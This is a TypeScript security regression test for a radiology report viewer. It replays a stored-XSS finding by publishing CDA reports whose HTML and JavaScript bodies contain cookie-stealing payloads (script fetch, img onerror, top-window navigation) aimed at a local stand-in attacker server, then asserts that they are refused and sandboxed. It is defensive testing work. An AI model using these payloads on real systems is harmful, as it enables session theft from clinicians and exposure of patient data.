/**
 * Intrusion-test finding "stored XSS through a report", replayed as the attack: a report whose CDA body declares
 * text/html carries a script that sends the physician's session away and loads a second report, published as
 * JavaScript, as a script of the application's origin. Opened in Chromium by a logged-in radiologist, nothing of
 * it may run: the body is not served as what it declares, the response is sandboxed, nothing reaches the attacker.
 */
import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import http from 'node:http';
import path from 'node:path';
import { rmSync } from 'node:fs';
import type { Browser, Page } from 'playwright-core';
import { generateStudy } from '../harness/gen-study.js';
import { haveCommand } from '../harness/peers.js';
import { CHROMIUM, launchChromium, pscLogin, startDrimNetwork, type DrimNetwork } from '../harness/drim-network.js';
import { imagingReportCda } from '../../src/simulators/ris/reports.js';
import { existsSync } from 'node:fs';

const skip = !haveCommand('Orthanc') ? 'Orthanc is not installed' : !existsSync(CHROMIUM) ? 'Chromium is not installed' : false;
const INS = '280067512345690';

describe('stored XSS through a report body', { skip }, () => {
  let net: DrimNetwork;
  let browser: Browser;
  let pg: Page;
  let attacker: http.Server;
  const stolen: string[] = [];

  before(async () => {
    attacker = http.createServer((req, res) => {
      stolen.push(req.url ?? '');
      res.writeHead(200, { 'access-control-allow-origin': '*', 'content-type': 'text/plain' }).end('ok');
    });
    await new Promise<void>((r) => attacker.listen(0, '127.0.0.1', () => r()));
    const exfil = `http://127.0.0.1:${(attacker.address() as { port: number }).port}`;
    const gen = path.join(process.env.TMPDIR ?? '/tmp', `xss-it-${process.pid}`);
    const html = generateStudy({ out: path.join(gen, 'html'), modality: 'CT', series: 1, slices: 2, rows: 32, cols: 32, patientId: INS, patientName: 'PAT-XSS^ALICE', accession: 'ACC-XSS-1', studyDate: '20261120' });
    const js = generateStudy({ out: path.join(gen, 'js'), modality: 'CT', series: 1, slices: 2, rows: 32, cols: 32, patientId: INS, patientName: 'PAT-XSS^ALICE', accession: 'ACC-XSS-2', studyDate: '20261121' });
    net = await startDrimNetwork({ loadIntoPacsA: [...html.files, ...js.files] });
    rmSync(gen, { recursive: true, force: true });
    const base = { ins: INS, ipp: 'IPP-X', family: 'PAT-XSS', given: 'ALICE', birthDate: '19800101', sex: 'F' as const, version: 1 };
    const withBody = (spec: Parameters<typeof imagingReportCda>[0], mediaType: string, body: string) =>
      imagingReportCda(spec).replace(/<text mediaType="application\/pdf" representation="B64">[^<]*<\/text>/, `<text mediaType="${mediaType}" representation="B64">${Buffer.from(body).toString('base64')}</text>`);
    const jsSpec = { ...base, studyUid: js.studyUid, accessionNumber: 'ACC-XSS-2', setId: 'XSS-JS', documentId: '1.2.250.1.999.66.2' };
    await net.publish(jsSpec, withBody(jsSpec, 'application/javascript', `fetch('${exfil}/from-script?c=' + encodeURIComponent(document.cookie)); top.location.href = '${exfil}/navigated?page=' + encodeURIComponent(top.document.body.innerText.slice(0, 500))`));
    const htmlSpec = { ...base, studyUid: html.studyUid, accessionNumber: 'ACC-XSS-1', setId: 'XSS-HTML', documentId: '1.2.250.1.999.66.1' };
    const payload = `<html><body><h1>Compte rendu</h1><script>fetch('${exfil}/from-html?c=' + encodeURIComponent(document.cookie)); top.document.title = 'pwned';</script>
<script src="/app/reports/1.2.250.1.213.1.1.1.99.1/1.2.250.1.999.66.2/body"></script><img src="x" onerror="fetch('${exfil}/from-img')"></body></html>`;
    await net.publish(htmlSpec, withBody(htmlSpec, 'text/html', payload));
    browser = await launchChromium();
    pg = await (await browser.newContext({ ignoreHTTPSErrors: true })).newPage();
    await pg.goto(`${net.bUrl}/app/launch?ins=${INS}&oid=1.2.250.1.213.1.4.10&birthName=PAT-XSS&firstGiven=ALICE&birthDate=1980-01-01&sex=F`);
    await pg.click('#psc-login');
    await pscLogin(pg);
  });
  after(async () => {
    await browser?.close();
    await net?.stop();
    await new Promise((r) => attacker?.close(r));
  });

  test('opening both reports runs nothing: the bodies are refused as formats, sandboxed, and nothing reaches the attacker', async () => {
    const links = await pg.$$eval('table.exams tbody tr .report-link', (as) => as.map((a) => (a as HTMLAnchorElement).href));
    assert.equal(links.length, 2, 'both reports listed');
    for (const link of links) {
      await pg.goto(link);
      await pg.waitForTimeout(1500);
      const body = await pg.evaluate(async () => {
        const r = await fetch((document.getElementById('report-body') as HTMLIFrameElement).src);
        return { status: r.status, type: r.headers.get('content-type'), csp: r.headers.get('content-security-policy'), nosniff: r.headers.get('x-content-type-options'), text: await r.text() };
      });
      assert.equal(body.status, 415);
      assert.match(body.type ?? '', /^text\/plain/);
      assert.match(body.csp ?? '', /\bsandbox\b/);
      assert.equal(body.nosniff, 'nosniff');
      assert.match(body.text, /non affiché/);
      assert.equal(await pg.getAttribute('#report-body', 'sandbox'), '', 'a report that is not a PDF is framed sandboxed');
      assert.notEqual(await pg.title(), 'pwned');
      assert.ok(pg.url().startsWith(net.bUrl), 'the page was not navigated away');
    }
    assert.deepEqual(stolen, [], 'no request reached the attacker');
  });
});
